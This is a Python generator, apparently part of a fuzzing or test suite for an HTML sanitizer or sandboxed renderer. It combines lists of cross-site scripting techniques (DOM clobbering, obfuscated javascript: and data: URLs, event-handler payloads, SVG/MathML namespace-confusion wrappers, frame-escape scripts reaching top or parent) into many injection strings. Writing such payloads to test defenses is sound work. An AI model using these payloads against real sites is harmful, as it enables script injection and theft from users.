"""Generated attacks: known techniques, combined with all places where they might work here."""

from __future__ import annotations

import random
from collections.abc import Iterator
from itertools import product

# Properties of documents, windows and elements that a page's scripts read.
CLOBBERED = (
    'createElement', 'currentScript', 'BackendAI', 'baseURI', 'head', 'body', 'defaultView', 'trustedTypes', 'getElementById', 'querySelector', 'querySelectorAll',
    'implementation', 'documentElement', 'attributes', 'children', 'childNodes', 'firstChild', 'parentNode', 'ownerDocument', 'append', 'remove', 'textContent',
    'nodeType', 'localName', 'isConnected', 'style', 'getAttribute', 'removeChild', 'adoptedStyleSheets', 'shadowRoot',
)
CLOBBERING = (
    '<img name={0} src="EVIL/{0}.js">', '<form name={0}><input name={0}></form>', '<a id={0} href="EVIL/{0}"></a><a id={0} name=src href="EVIL/{0}"></a>',
    '<embed name={0} src="EVIL/{0}">', '<object id={0} data="EVIL/{0}"></object>', '<iframe name={0} srcdoc="<script>RUN</script>"></iframe>',
)

# Ways to write a URL scheme that runs scripts.
SCHEMES = (
    'javascript:RUN', 'JaVaScRiPt:RUN', '&#106;avascript:RUN', '&#x6a;avascript:RUN', '&#0000106avascript:RUN', '&#x000006Aavascript:RUN', 'java&#9;script:RUN',
    'java&NewLine;script:RUN', 'java&Tab;script&colon;RUN', '&#1;javascript:RUN', '&#32;&#10;javascript:RUN', 'javascript&#58;RUN', 'javascript:/*--></title></style>*/RUN',
    'javascript://x%0aRUN', 'data:text/html,<script>RUN</script>', 'DATA:text/html;base64,PHNjcmlwdD50b3AuX19wd249MTwvc2NyaXB0Pg==', 'feed:javascript:RUN',
)
CARRIERS = (
    '<a href="{}">x</a>', '<area href="{}" shape=default>', '<form action="{}"><button>x</button></form>', '<button formaction="{}">x</button>',
    '<svg><a xlink:href="{}"><rect width=9 height=9 /></a></svg>', '<svg><a><animate attributeName=href to="{}" begin=0s fill=freeze></animate><text>x</text></a></svg>',
    '<math><mtext href="{}">x</mtext></math>', '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<base href="{}"><a href="x">x</a>',
)

EVENTS = (
    'onload', 'onerror', 'onclick', 'onfocus', 'ontoggle', 'onbeforetoggle', 'onanimationstart', 'ontransitionrun', 'onpointerrawupdate', 'onscrollsnapchange', 'onbegin',
    'oncanplay', 'onloadstart', 'onbeforematch', 'oncontentvisibilityautostatechange', 'onsecuritypolicyviolation', 'onslotchange',
)
HANDLED = (
    '<img src=x: {}=RUN>', '<svg {}="RUN"><set attributeName=x to=1 begin=0s {}="RUN"></svg>', '<details open {0}=\'RUN\' popover><summary tabindex=0 autofocus {0}=RUN>x</summary></details>',
    '<video src=x: autoplay {}="RUN"></video>', '<input autofocus style="animation:a 1s" {}\n=\n"RUN">', '<x tabindex=0 autofocus/{}="&#116;op.__pwn=1"//>y',
)

# Elements whose contents are parsed differently, and contents that might escape them.
WRAPPERS = (
    '<svg>{}</svg>', '<math>{}</math>', '<svg><foreignObject>{}</foreignObject></svg>', '<svg><title>{}</title></svg>', '<svg><desc>{}</desc></svg>', '<math><mtext>{}</mtext></math>',
    '<math><annotation-xml encoding="text/html">{}</annotation-xml></math>', '<math><mi><mglyph>{}</mglyph></mi></math>', '<table>{}</table>', '<select>{}</select>',
    '<template>{}</template>', '<noscript>{}</noscript>', '<textarea>{}', '<svg><style>{}</style></svg>', '<math><style><!--</style>{}</math>', '<frameset>{}</frameset>',
    '<template shadowrootmode=open>{}</template>', '<svg><p>{}</p></svg>', '<form><math><mtext></form><form><mglyph><style></math>{}',
)
INNER = (
    '<img src=x: onerror=RUN>', '<script>RUN</script>', '<a href="javascript:RUN">x</a>', '<style>@import "EVIL/i";</style>', '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<p title="</style></title></textarea></noscript><img src=x: onerror=RUN>">', '<div is=host-d><x-y></x-y></div>',
)

# Objects that scripts in a frame try to reach, and what they do with them.
REALMS = ('top', 'parent', 'parent.parent', 'self["to" + "p"]', 'window.opener', 'frames[0]', 'document.defaultView.parent', 'Reflect.get(globalThis, "parent")',
          'document.createElement("iframe").contentWindow', 'Object.getOwnPropertyDescriptor(window, "parent").get.call(window)')
ACTIONS = (
    '{}.__pwn = 1', '{}.eval("RUN")', '{}.document.title = "pwned"', '{}.location = "javascript:RUN"', '{}.postMessage({{height: 1e9, error: "x", blocked: ["RUN"], name: "x"}}, "*")',
    '{}.document.body.append("x")', '{}.localStorage.setItem("x", 1)', '{}.Function("RUN")()', '{}.frames[0].location = "EVIL/f"',
)


def generated(known: list[tuple[str, str]]) -> Iterator[tuple[str, str]]:
    """Generate attacks as ``(name, text)``; the ``known`` ones, which have been published, are combined, too."""
    for name, element in product(CLOBBERED, CLOBBERING):
        yield f'clobbering: {element[1:element.index(" ")]} as {name}', element.format(name)
    for number, (scheme, carrier) in enumerate(product(SCHEMES, CARRIERS)):
        yield f'schemes: {number}', carrier.format(scheme)
    for number, (event, element) in enumerate(product(EVENTS, HANDLED)):
        yield f'events: {number} {event}', element.format(event, event)
    for number, (wrapper, inner) in enumerate(product(WRAPPERS, INNER)):
        yield f'namespaces: {number}', wrapper.format(inner)
    for number, (realm, action) in enumerate(product(REALMS, ACTIONS)):
        yield f'realms: {number}', f'<script>try {{ {action.format(realm)} }} catch (e) {{}}</script>'
    yield from _crossed(known)


def _crossed(known: list[tuple[str, str]]) -> Iterator[tuple[str, str]]:
    """Combine the beginning of one attack with the end of another."""
    rng = random.Random(12)
    still = [(name, text) for name, text in known if not name.startswith(('framed', 'documents'))]
    for number in range(220):
        (_, first), (_, second) = rng.sample(still, 2)
        yield f'crossed: {number}', first[:rng.randrange(len(first)) + 1] + second[rng.randrange(len(second)):]
